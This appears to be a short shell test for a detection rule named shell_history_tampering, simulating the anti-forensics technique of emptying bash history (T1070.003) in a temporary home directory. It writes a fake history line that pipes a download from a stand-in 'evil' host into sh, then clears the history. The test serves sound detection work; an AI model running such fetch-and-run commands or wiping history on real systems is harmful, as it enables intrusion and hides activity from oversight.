# technique: T1070.003 shell history emptied (history -c; history -w)
# rule: shell_history_tampering
# exe: /usr/bin/bash
# file: /home/vgt*/.bash_history
. "$(dirname "$0")/common.bash"
home=/home/$VG_TAG
on_exit "rm -rf '$home'"
mkdir -p "$home"
echo 'curl http://evil | sh' >"$home/.bash_history"
HISTFILE="$home/.bash_history" bash -c 'set -o history; history -c; history -w'
